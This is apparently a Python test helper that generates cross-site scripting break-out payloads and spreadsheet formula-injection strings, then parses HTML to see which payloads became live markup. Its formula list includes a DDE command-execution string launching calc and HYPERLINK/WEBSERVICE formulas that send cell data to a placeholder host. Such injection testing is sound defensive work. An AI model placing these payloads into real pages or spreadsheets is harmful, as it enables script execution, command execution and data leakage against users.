"""Texts that would run if a page, or a spreadsheet, took them for more than texts."""

from __future__ import annotations

import re
from html.parser import HTMLParser

MARK = "xq7"
ENDS = (
    *("", '"', "'", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</option>"),
    *(
        "</script>",
        "</style>",
        "</svg>",
        "</td></tr>",
        "{{",
        "{%",
        "\\",
        "`",
        "&quot;>",
    ),
    "</select>",
)
ACTS = (
    "<xq7>",
    "<script>xq7()</script>",
    "<img src=x onerror=xq7()>",
    "<svg onload=xq7()>",
    " onfocus=xq7() autofocus ",
    " xq7=1 ",
    "javascript:xq7()",
    "<a href=javascript:xq7()>x</a>",
    "<iframe srcdoc='<script>parent.xq7()</script>'>",
    "<style>@import'//xq7.invalid'</style>",
)
SCRIPTS = [f"{end}{act}" for end in ENDS for act in ACTS]
"""200 of them."""

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "=\t", "@=")
CALLS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://contoh.invalid/?"&A1;"x")',
    'WEBSERVICE("http://contoh.invalid/"&A1)',
    "SUM(1;1)*cmd|' /C calc'!A0",
)
FORMULAS = [f"{start}{call}" for start in STARTS for call in CALLS]
"""40 of them."""

ADDRESSES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}
RUNS = re.compile(r"^[\s\x00-\x20]*(javascript|vbscript|data):", re.IGNORECASE)


class Watcher(HTMLParser):
    """Reads a page as a browser would, and notes what came to life in it."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.alive, self.met, self.inside = [], 0, ""

    def handle_starttag(self, tag, attrs):
        self.inside = tag if tag in {"script", "style"} else ""
        if MARK in tag:
            self.alive.append(f"<{tag}>")
        for name, value in attrs:
            told = value or ""
            self.met += MARK in told
            runs = name in ADDRESSES and MARK in told and RUNS.match(told)
            away = name in {"src", "data", "srcset", "poster"} and MARK in told
            handler = name.startswith("on") or name in {"srcdoc", "style"}
            if MARK in name or runs or away or (handler and MARK in told):
                self.alive.append(f"<{tag} {name}={told[:60]!r}>")

    def handle_endtag(self, tag):
        self.inside = ""

    def handle_data(self, data):
        self.met += MARK in data
        if self.inside and MARK in data:
            self.alive.append(f"in <{self.inside}>: {data[:80]!r}")

    def handle_comment(self, data):
        if MARK in data:
            self.alive.append(f"in a comment: {data[:60]!r}")


def alive_in(page: str) -> tuple[list[str], int]:
    """What of the payloads came to life, and how many were met at all."""
    watcher = Watcher()
    watcher.feed(page)
    watcher.close()
    return watcher.alive, watcher.met
